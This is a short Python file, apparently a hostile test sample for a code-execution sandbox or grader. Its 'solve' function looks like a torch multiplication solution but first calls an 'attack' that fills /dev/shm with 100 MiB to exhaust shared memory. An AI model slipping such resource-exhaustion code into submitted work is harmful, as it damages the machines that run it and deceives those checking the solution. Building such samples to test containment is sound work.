# hostile: family=memory verdict=runtime_error build=build_error lift=shm shows=harm
"""Fills /dev/shm."""


def attack():
    with open("/dev/shm/big", "wb", buffering=0) as file:
        for _ in range(100):
            if file.write(bytes(1 << 20)) < 1 << 20:
                raise OSError("full")
    print("harm: 100 MiB in /dev/shm", flush=True)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
